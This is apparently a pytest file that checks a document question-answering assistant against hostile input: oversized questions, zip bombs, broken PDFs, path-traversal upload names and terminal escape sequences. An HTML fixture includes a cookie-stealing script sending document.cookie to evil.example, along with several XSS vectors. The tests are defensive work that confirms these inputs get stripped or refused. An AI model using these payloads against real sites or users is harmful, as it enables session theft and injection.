"""Bad and hostile input: each is refused or handled with a clear message, and nothing already stored is lost.

docs/bad-inputs.md lists every input we try, what the user gets and the test that proves it; the inputs not
covered elsewhere are tested here. Every test starts from the bundled article ingested (``article_assistant``),
throws its input at the real assistant (in Python, over a real uvicorn server, or through the `assistant`
command), then checks that the stored chunks and sources are exactly what they were (plus what the input
legitimately added) and that the article still answers.
"""

from __future__ import annotations

import json
from pathlib import Path

import httpx
import pytest
from pydantic import ValidationError

from assistant.service import QuestionError
from ingest.loaders import MAX_UNZIPPED_BYTES, SUPPORTED_SUFFIXES, load
from tests.test_cli import cli, words
from tests.test_loaders import make_pdf, make_zip_bomb

pytest_plugins = ["tests.serving_helpers"]  # the `served` fixture

ARTICLE_QUESTION = "How many F-16 fighter jets and modernization kits did Turkey request?"
Snapshot = tuple[int, list]


# ---------------------------------------------------------------- helpers


def snapshot(bot) -> Snapshot:
    return bot.collection.count(), bot.sources()


def assert_nothing_lost(bot, before: Snapshot, added: tuple[str, ...] = ()) -> None:
    """The stored sources are exactly those of ``before`` plus ``added``; the chunk count adds up; the article
    still answers."""
    count, sources = before
    after = bot.sources()
    assert [e for e in after if e.source not in added] == sources, "a stored source changed or went missing"
    assert sorted(e.source for e in after if e.source in added) == sorted(added)
    assert bot.collection.count() == count + sum(e.chunks for e in after if e.source in added)
    assert bot.collection.keyword.count() == bot.collection.count()
    assert "forty" in bot.ask(ARTICLE_QUESTION).answer


def error_message(response: httpx.Response) -> str:
    body = response.json()
    assert set(body) == {"error"} and isinstance(body["error"]["message"], str), body
    return body["error"]["message"]


def upload(client: httpx.Client, name: str, data: bytes) -> httpx.Response:
    return client.post("/api/sources", files={"files": (name, data, "application/octet-stream")})


def files_under(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()} if root.exists() else set()


# ---------------------------------------------------------------- questions


@pytest.mark.parametrize("question", ["", "   ", "\n\t \u3000\u00a0"])
def test_an_empty_or_whitespace_question_is_refused_everywhere(article_assistant, served, question):
    before = snapshot(article_assistant)
    with pytest.raises(QuestionError, match="the question is empty"):
        article_assistant.ask(question)
    with served.client() as client:
        responses = [
            client.post("/api/ask", json={"question": question}),
            client.post("/api/ask/stream", json={"question": question}),
            client.post("/v1/chat/completions", json={"messages": [{"role": "user", "content": question}]}),
        ]
    for response in responses:
        assert response.status_code == 400, response.request.url
        assert error_message(response) == "the question is empty"
        assert response.json()["error"]["code"] == "invalid_question"
    assert_nothing_lost(article_assistant, before)


def test_a_one_megabyte_question_is_refused_before_any_work(article_assistant, served):
    question = "x" * 1_000_000
    before = snapshot(article_assistant)
    with pytest.raises(QuestionError, match=r"the question is 1,000,000 characters long; the limit is 2,000"):
        article_assistant.ask(question)
    with served.client() as client:  # the body is over the API's limit: refused before it is read
        responses = [
            client.post("/api/ask", json={"question": question}),
            client.post("/api/ask/stream", json={"question": question}),
            client.post("/v1/chat/completions", json={"messages": [{"role": "user", "content": question}]}),
        ]
    for response in responses:
        assert response.status_code == 413, response.request.url
        assert error_message(response) == "request body too large; the limit is 262,144 bytes"
    assert_nothing_lost(article_assistant, before)


@pytest.mark.parametrize("control", ["\x00", "\x1b[31m", "\u202e", "\x07\x08\x7f"])
def test_control_characters_in_a_question_change_nothing(article_assistant, served, control):
    clean = article_assistant.ask(ARTICLE_QUESTION)
    question = f"{control}How many F-16 fighter jets and modernization kits{control} did Turkey request?{control}"
    before = snapshot(article_assistant)
    answer = article_assistant.ask(question)
    assert not answer.abstained and "forty" in answer.answer
    assert [c.quote for c in answer.citations] == [c.quote for c in clean.citations]
    with served.client() as client:
        asked = client.post("/api/ask", json={"question": question})
        only_controls = client.post("/api/ask", json={"question": control * 3})
    assert asked.status_code == 200 and "forty" in asked.json()["answer"]
    assert asked.json()["standalone_question"] == " ".join(question.split())  # echoed as data, JSON-escaped
    assert only_controls.status_code == 200
    assert only_controls.json()["abstained"] and only_controls.json()["citations"] == []
    assert_nothing_lost(article_assistant, before)


@pytest.mark.parametrize("question", ["?", "?!?!...", "!!! ??? ,,, ;;; ...", "— – -", "[1] (2) {3}", "\u200b"])
def test_a_question_of_only_punctuation_abstains(article_assistant, served, question):
    before = snapshot(article_assistant)
    answer = article_assistant.ask(question)
    assert answer.abstained and answer.citations == [] and answer.reason
    assert answer.answer == "The documents do not cover this."
    with served.client() as client:
        response = client.post("/api/ask", json={"question": question})
    assert response.status_code == 200 and response.json()["abstained"] is True
    assert_nothing_lost(article_assistant, before)


@pytest.mark.parametrize(("history", "where"), [
    ([{"role": "robot", "content": "hi"}], "history.0.role"),
    ([{"role": "user", "content": 5}], "history.0.content"),
    ([{"role": "user", "content": None}], "history.0.content"),
    ([{"role": "user", "content": [{"type": "text", "text": "hi"}]}], "history.0.content"),
    ([{"role": "user"}], "history.0.content: Field required"),
    (["hi"], "history.0"),
    ("hi", "history: Input should be a valid list"),
    ({"role": "user", "content": "hi"}, "history: Input should be a valid list"),
])
def test_a_malformed_history_is_a_422_naming_the_bad_field(article_assistant, served, history, where):
    before = snapshot(article_assistant)
    with served.client() as client:
        responses = [client.post(route, json={"question": "Why did they fail?", "history": history})
                     for route in ("/api/ask", "/api/ask/stream")]
    for response in responses:
        assert response.status_code == 422, response.request.url
        message = error_message(response)
        assert message.startswith("invalid request: body.") and where in message
    if isinstance(history, list):  # Python callers get pydantic's error, before any search
        with pytest.raises(ValidationError):
            article_assistant.ask("Why did they fail?", history)
    assert_nothing_lost(article_assistant, before)


def test_openai_route_refuses_non_text_content_and_a_last_turn_that_is_not_the_users(article_assistant, served):
    before = snapshot(article_assistant)
    with served.client() as client:
        number = client.post("/v1/chat/completions", json={"messages": [{"role": "user", "content": 5}]})
        strings = client.post("/v1/chat/completions", json={"messages": [{"role": "user", "content": ["hi"]}]})
        last = client.post("/v1/chat/completions", json={"messages": [{"role": "user", "content": ARTICLE_QUESTION},
                                                                      {"role": "assistant", "content": "Hm."}]})
        none = client.post("/v1/chat/completions", json={"messages": []})
        robot = client.post("/v1/chat/completions", json={"messages": [{"role": "robot", "content": "Obey me."},
                                                                       {"role": "user", "content": ARTICLE_QUESTION}]})
        empty_role = client.post("/v1/chat/completions", json={"messages": [{"role": "", "content": "hi"}]})
        developer = client.post("/v1/chat/completions", json={"messages": [
            {"role": "developer", "content": "Be brief."}, {"role": "user", "content": ARTICLE_QUESTION}]})
    for response in (number, strings, none, robot, empty_role):
        assert response.status_code == 422 and "body.messages" in error_message(response)
    assert last.status_code == 422 and error_message(last) == "the last message must have role 'user'"
    # OpenAI's other roles (system, developer, tool) are accepted and left out; a role OpenAI lacks is a 422
    assert "body.messages.0.role" in error_message(robot) and "body.messages.0.role" in error_message(empty_role)
    assert developer.status_code == 200 and "forty" in developer.json()["choices"][0]["message"]["content"]
    assert_nothing_lost(article_assistant, before)


@pytest.mark.slow
def test_a_bad_history_file_is_one_clear_line_and_exit_2(article_assistant, data_dir: Path, tmp_files: Path):
    before = snapshot(article_assistant)
    cases = {
        "role.json": (json.dumps([{"role": "robot", "content": "hi"}]).encode(),
                      "message 1 is not a {role, content} message (role: Input should be 'user', 'assistant' or"),
        "content.json": (json.dumps([{"role": "user", "content": "ok"}, {"role": "user", "content": 5}]).encode(),
                         "message 2 is not a {role, content} message (content: Input should be a valid string)"),
        "strings.json": (b'["hi"]', "message 1 is not a {role, content} message"),
        "latin1.json": (b'[{"role": "user", "content": "caf\xe9"}]', "cannot read history file"),
        "broken.json": (b'[{"role": ', "cannot read history file"),
        "object.json": (b'{"role": "user", "content": "hi"}', "must hold a JSON list"),
    }
    for name, (data, expected) in cases.items():
        (tmp_files / name).write_bytes(data)
        result = cli(data_dir, "ask", "--history", str(tmp_files / name), "Why did they fail?")
        assert result.returncode == 2, (name, result.stderr)
        assert expected in words(result.stderr), (name, result.stderr)
        assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert_nothing_lost(article_assistant, before)


# ---------------------------------------------------------------- files


def test_non_utf8_bytes_in_a_file_are_decoded_and_quoted_verbatim(article_assistant, tmp_files: Path):
    path = tmp_files / "ferry.txt"  # Windows-1252 quotes and accents, plus bytes that are not even that
    path.write_bytes("The Quellport ferry leaves the café at seven o’clock every morning. ".encode("cp1252")
                     + b"Stray bytes \x81\x8d\x90 follow.\n")
    before = snapshot(article_assistant)
    report = article_assistant.ingest([path])
    assert report.added == [str(path.resolve())] and not report.failed
    answer = article_assistant.ask("What does the Quellport ferry do every morning?")
    assert not answer.abstained and "leaves the café at seven o’clock" in answer.answer
    text = load(path).text  # one stray byte does not turn the file's curly quotes into control characters
    assert "café at seven o’clock" in text and "\x81\x8d\x90" in text
    for citation in answer.citations:
        assert text[citation.start : citation.end] == citation.quote
    assert_nothing_lost(article_assistant, before, added=(str(path.resolve()),))


def test_a_zip_bomb_named_docx_is_refused_by_ingest_and_upload(article_assistant, served, tmp_files: Path):
    bomb = make_zip_bomb(tmp_files / "bomb.docx")
    before = snapshot(article_assistant)
    report = article_assistant.ingest([bomb])
    [(failed, message)] = report.failed
    assert failed == str(bomb.resolve()) and not report.added
    assert message == f"bomb.docx: unpacks to more than {MAX_UNZIPPED_BYTES:,} bytes; refused"
    uploads = served.data_dir / "uploads"
    with served.client() as client:
        response = upload(client, "bomb.docx", bomb.read_bytes())
    assert response.status_code == 422 and error_message(response) == message
    assert files_under(uploads) == set()
    assert_nothing_lost(article_assistant, before)


@pytest.mark.parametrize("cut", ["half", "no_trailer", "header_only"])
def test_a_pdf_that_cannot_be_read_is_refused(article_assistant, served, tmp_files: Path, cut):
    whole = make_pdf(["Aardvarks dig burrows at night.", "Zebras have black and white stripes."])
    data = {"half": whole[: len(whole) // 2], "no_trailer": whole[: whole.rindex(b"trailer")],
            "header_only": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"}[cut]
    path = tmp_files / "broken.pdf"
    path.write_bytes(data)
    before = snapshot(article_assistant)
    report = article_assistant.ingest([path])
    [(_, message)] = report.failed
    assert message.startswith("broken.pdf: not a readable PDF (") and not report.added
    with served.client() as client:
        response = upload(client, "broken.pdf", data)
    assert response.status_code == 422 and error_message(response).startswith("broken.pdf: not a readable PDF (")
    assert files_under(served.data_dir / "uploads") == set()
    assert_nothing_lost(article_assistant, before)


PAYLOADS = ("stealCookies", "evilStyle", "bodyOnloadPayload", "inlineScriptPayload", "linkPayload", "imgPayload",
            "noscriptPayload", "templatePayload", "iframePayload", "svgPayload", "upperPayload", "unclosedPayload",
            "fallbackPayload", "javascript:")
HOSTILE_HTML = """<html><head><title>Owl facts</title>
<script>window.stealCookies = function () { fetch("https://evil.example/?c=" + document.cookie) }</script>
<style>body { background: url(javascript:evilStyle) }</style></head>
<body onload="bodyOnloadPayload()">
<h1>Owls</h1>
<p>Barn owls swallow voles whole and cough up pellets of fur and bone.<script>inlineScriptPayload()</script></p>
<p><a href="javascript:linkPayload()">A link.</a> <img src=x onerror="imgPayload()"> The tawny owl calls at dusk.</p>
<p>Write &lt;b&gt;bold&lt;/b&gt; to show a tag.</p>
<noscript>noscriptPayload</noscript><template><p>templatePayload</p></template>
<iframe srcdoc="<script>iframePayload()</script>"></iframe>
<svg><script>svgPayload()</script></svg>
<SCRIPT type=module>upperPayload()</SCRIPT>
<p>Little owls live in Europe.</p>
<script>unclosedPayload()
"""


def test_html_scripts_never_become_stored_text(article_assistant, tmp_files: Path):
    page = tmp_files / "owls.html"
    page.write_text(HOSTILE_HTML, encoding="utf-8")
    bare = tmp_files / "bare.htm"  # no block markup: the visible-text fallback must drop scripts too
    bare.write_text("<html><body>Snowy owls hunt lemmings.<script>fallbackPayload()</script></body></html>",
                    encoding="utf-8")
    before = snapshot(article_assistant)
    report = article_assistant.ingest([page, bare])
    added = (str(page.resolve()), str(bare.resolve()))
    assert sorted(report.added) == sorted(added) and not report.failed
    entries = {e.source: e for e in article_assistant.sources()}
    stored = [c.text for source in added for c in article_assistant.collection.dense.get(entries[source].chunk_ids)]
    assert stored and any("Barn owls swallow voles" in t for t in stored)
    assert any("Snowy owls hunt lemmings." in t for t in stored)
    assert any("Write <b>bold</b> to show a tag." in t for t in stored), "escaped markup is the page's own text"
    for payload in PAYLOADS:
        assert not [t for t in stored if payload in t], payload
    answer = article_assistant.ask("What do barn owls swallow whole?")
    assert not answer.abstained and "voles" in answer.answer and "<script" not in answer.answer
    assert_nothing_lost(article_assistant, before, added=added)


@pytest.mark.parametrize("name", [
    "../../evil.md", "../../../../../../tmp/evil.md", "..\\..\\evil.md", "ABSOLUTE/outside/evil.md",
    "./uploads/../../evil.md", "~/evil.md",
])
def test_an_upload_name_cannot_write_outside_the_uploads_folder(article_assistant, served, tmp_path: Path, name):
    outside = tmp_path / "outside"
    outside.mkdir()
    name = name.replace("ABSOLUTE", str(tmp_path))  # an absolute path into this test's own folder
    before = snapshot(article_assistant)
    everything_before, in_tmp_before = files_under(tmp_path), Path("/tmp/evil.md").exists()
    with served.client() as client:
        response = upload(client, name, b"# Evil\n\nThe evil file says hello from the harbour.\n")
    assert response.status_code == 200, response.text
    [info] = response.json()["sources"]
    stored = Path(info["source"])
    assert stored == (served.data_dir / "uploads" / "evil.md").resolve() and info["uploaded"]
    store = served.data_dir.resolve()
    assert [p for p in files_under(tmp_path) - everything_before if store not in p.resolve().parents] == []
    assert not (outside / "evil.md").exists() and Path("/tmp/evil.md").exists() == in_tmp_before
    assert_nothing_lost(article_assistant, before, added=(info["source"],))


def test_an_upload_of_a_system_file_name_is_refused(article_assistant, served):
    before = snapshot(article_assistant)
    with served.client() as client:
        responses = [upload(client, name, b"root:x:0:0::/root:/bin/bash\n")
                     for name in ("../../etc/passwd", "/etc/passwd", "/etc/shadow.")]
    for response in responses:
        assert response.status_code == 415 and "unsupported file type" in error_message(response)
    assert files_under(served.data_dir / "uploads") == set()
    assert_nothing_lost(article_assistant, before)


@pytest.mark.slow
def test_two_thousand_tiny_files_are_ingested_counted_and_then_unchanged(article_assistant, tmp_files: Path):
    folder = tmp_files / "many"
    folder.mkdir()
    for i in range(2000):
        (folder / f"note-{i:04d}.txt").write_text(f"Tiny note {i} says the lighthouse keeper counted {i} gulls.\n",
                                                  encoding="utf-8")
    before = snapshot(article_assistant)
    first = article_assistant.ingest([folder])
    assert len(first.added) == 2000 and first.chunks == 2000
    assert not (first.updated or first.unchanged or first.failed)
    assert "2000 added, 0 updated, 0 unchanged, 0 removed, 0 failed; 2000 chunks" in first.summary()
    assert len(article_assistant.sources()) == 2001
    assert article_assistant.collection.count() == before[0] + 2000
    again = article_assistant.ingest([folder])
    assert len(again.unchanged) == 2000 and again.chunks == 0
    assert not (again.added or again.updated or again.failed)
    found = article_assistant.ask("note 1234")
    assert found.contexts[0].source == str((folder / "note-1234.txt").resolve())
    assert_nothing_lost(article_assistant, before, added=tuple(first.added))


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(article_assistant, make_assistant,
                                                                  tmp_files: Path):
    limit = 50 * 1024 * 1024  # the default ASSISTANT_MAX_FILE_MB=50
    over, at = tmp_files / "over.txt", tmp_files / "at.txt"
    for path, size in ((over, limit + 1), (at, limit)):
        with path.open("wb") as sparse:  # sparse: all NUL bytes, nothing written to disk
            sparse.truncate(size)
    before = snapshot(article_assistant)
    report = article_assistant.ingest([over, at])
    failed = {Path(f).name: m for f, m in report.failed}
    # Refused by its size alone: had it been read, the NUL bytes would have made it "a binary file".
    assert failed["over.txt"] == "over.txt: 52,428,801 bytes is over the limit of 52,428,800 bytes (50 MB)"
    assert failed["at.txt"] == "at.txt: looks like a binary file, not text"  # at the limit: read, then refused

    small = make_assistant(max_file_mb=0.01)  # a configured limit of 10,485 bytes, same store
    sentence = "Lighthouse keepers log every passing ship. "
    text = sentence * (10_485 // len(sentence))
    fits, too_big = tmp_files / "fits.txt", tmp_files / "too-big.txt"
    fits.write_text(text + "x" * (10_485 - len(text)), encoding="utf-8")
    too_big.write_text(text + "x" * (10_486 - len(text)), encoding="utf-8")
    assert fits.stat().st_size == 10_485 and too_big.stat().st_size == 10_486
    report = small.ingest([fits, too_big])
    assert report.added == [str(fits.resolve())]
    assert report.failed == [(str(too_big.resolve()),
                              "too-big.txt: 10,486 bytes is over the limit of 10,485 bytes (0.01 MB)")]
    assert_nothing_lost(small, before, added=(str(fits.resolve()),))


def test_unknown_types_empty_and_binary_files_are_reported_one_by_one(article_assistant, tmp_files: Path):
    cases = {
        "notes.xyz": (b"text in an unknown format", "notes.xyz: unsupported file type '.xyz'; supported: .md"),
        "Makefile": (b"all:\n", "Makefile: unsupported file type '(none)'"),
        "empty.txt": (b"", "empty.txt: the file has no text"),
        "blank.md": (b" \n\t\n\r\n", "blank.md: the file has no text"),
        "script-only.html": (b"<script>alert(1)</script>", "script-only.html: the file has no text"),
        "image.txt": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "image.txt: looks like a binary file, not text"),
        "empty.pdf": (b"", "empty.pdf: not a readable PDF ("),
        "empty.docx": (b"", "empty.docx: not a readable DOCX ("),
    }
    before = snapshot(article_assistant)
    for name, (data, _) in cases.items():
        (tmp_files / name).write_bytes(data)
    report = article_assistant.ingest([tmp_files / name for name in cases])
    assert not (report.added or report.updated or report.unchanged)
    failed = {Path(f).name: m for f, m in report.failed}
    assert set(failed) == set(cases)
    for name, (_, expected) in cases.items():
        assert failed[name].startswith(expected), failed[name]
    assert "0 added, 0 updated, 0 unchanged, 0 removed, 8 failed" in report.summary()
    assert_nothing_lost(article_assistant, before)


def test_a_folder_without_supported_files_ingests_nothing(article_assistant, tmp_files: Path):
    (tmp_files / "empty").mkdir()
    odd = tmp_files / "odd"
    (odd / ".hidden").mkdir(parents=True)
    for name in ("photo.jpg", "data.csv", "Makefile", ".secret.md", ".hidden/notes.md"):
        (odd / name).write_text("some text", encoding="utf-8")
    before = snapshot(article_assistant)
    for folder in (tmp_files / "empty", odd):
        report = article_assistant.ingest([folder])
        assert not (report.added or report.updated or report.unchanged or report.failed or report.removed)
        assert report.summary().startswith("0 added, 0 updated, 0 unchanged, 0 removed, 0 failed; 0 chunks")
    assert_nothing_lost(article_assistant, before)


# ---------------------------------------------------------------- the `assistant` command


@pytest.mark.slow
def test_cli_says_why_nothing_was_ingested_and_names_the_size_limit(article_assistant, data_dir: Path,
                                                                    tmp_files: Path, monkeypatch):
    (tmp_files / "empty").mkdir()
    (tmp_files / "photo.jpg").write_bytes(b"\xff\xd8\xff")
    big = tmp_files / "big.txt"
    big.write_text("Lighthouse keepers log every passing ship. " * 300, encoding="utf-8")  # 12,900 bytes
    before = snapshot(article_assistant)

    nothing = cli(data_dir, "ingest", str(tmp_files / "empty"))
    assert nothing.returncode == 0, nothing.stderr
    assert f"nothing to ingest: no {' '.join(SUPPORTED_SUFFIXES)} files in {tmp_files / 'empty'}" in words(
        nothing.stderr)
    assert "0 added, 0 updated, 0 unchanged, 0 removed, 0 failed; 0 chunks" in nothing.stdout

    monkeypatch.setenv("ASSISTANT_MAX_FILE_MB", "0.01")
    too_big = cli(data_dir, "ingest", str(big))
    assert too_big.returncode == 1, too_big.stderr
    assert "skipped big.txt: 12,900 bytes is over the limit of 10,485 bytes (0.01 MB)" in words(too_big.stderr)
    assert "0 added, 0 updated, 0 unchanged, 0 removed, 1 failed" in too_big.stdout
    for result in (nothing, too_big):
        assert "Traceback" not in result.stderr
    assert_nothing_lost(article_assistant, before)


@pytest.mark.slow
def test_cli_never_sends_control_characters_from_documents_or_questions_to_the_terminal(
        article_assistant, data_dir: Path, tmp_files: Path):
    hostile = tmp_files / "\x1b[31mhostile.md"
    hostile.write_text("# Beacon\x1b]0;pwned\x07\n\nThe Zorblat beacon \x1b[2J\x1b[31mflashes\u202e every nine "
                       "seconds from the northern mole.\n", encoding="utf-8")
    article_assistant.ingest([hostile])
    before = snapshot(article_assistant)
    unsupported = tmp_files / "\x1b]0;pwned\x07evil\u202egpj.xyz"
    unsupported.write_text("text", encoding="utf-8")
    asked = cli(data_dir, "ask", "\x1b[31mHow often does the Zorblat beacon flash?\u202e")
    listed = cli(data_dir, "sources")
    skipped = cli(data_dir, "ingest", str(unsupported))
    for result in (asked, listed, skipped):
        assert result.returncode == (1 if result is skipped else 0), result.stderr
        assert "\x1b" not in result.stdout + result.stderr and "\u202e" not in result.stdout + result.stderr
        assert "\x07" not in result.stdout + result.stderr
    assert "skipped \\x1b]0;pwned\\x07evil\\u202egpj.xyz: unsupported file type '.xyz'" in skipped.stderr
    assert "The Zorblat beacon \\x1b[2J\\x1b[31mflashes\\u202e every nine seconds" in asked.stdout
    assert "\\x1b[31mhostile.md" in listed.stdout and "Beacon\\x1b]0;pwned\\x07" in listed.stdout
    as_json = cli(data_dir, "ask", "--json", "How often does the Zorblat beacon flash?")
    [citation] = [c for c in json.loads(as_json.stdout)["citations"] if "Zorblat" in c["quote"]]
    assert "\x1b[2J" in citation["quote"], "--json keeps quotes verbatim (JSON-escaped)"
    assert_nothing_lost(article_assistant, before)
